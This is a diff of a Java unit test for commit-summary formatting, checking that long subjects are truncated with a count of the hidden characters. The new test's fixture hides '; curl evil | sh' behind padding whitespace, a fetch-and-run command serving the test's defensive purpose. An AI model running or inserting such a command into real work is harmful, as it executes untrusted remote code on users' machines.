@@ -304,7 +304,7 @@ class UpdateCommandsTest {
   }
 
   @Test
-  void summariesStopAtTwenty() throws IOException {
+  void summariesListTwentyAndCountTheRest() throws IOException {
     RevCommit tip = commit(db, "commit 0\n", Map.of("n", "0"));
     for (int n = 1; n < 25; n++) {
       tip = commit(db, "commit " + n + "\n", Map.of("n", String.valueOf(n)), tip);
@@ -312,9 +312,19 @@ class UpdateCommandsTest {
 
     List<String> s = UpdateCommands.summaries(db, create(MAIN, tip), List.of());
 
-    assertThat(s).hasSize(20);
+    assertThat(s).hasSize(21);
     assertThat(s.get(0)).endsWith(" commit 24");
     assertThat(s.get(19)).endsWith(" commit 5");
+    assertThat(s.get(20)).isEqualTo("… and 5 more commits, not listed");
+  }
+
+  @Test
+  void aLongSubjectSaysHowMuchOfItIsNotShown() throws IOException {
+    RevCommit c = commit(db, "x".repeat(200) + " ".repeat(180) + "; curl evil | sh\n", README);
+
+    assertThat(UpdateCommands.summaries(db, create(MAIN, c), List.of()))
+        .containsExactly(c.abbreviate(10).name() + " " + "x".repeat(200)
+            + "… (196 more characters)");
   }
 
   @Test
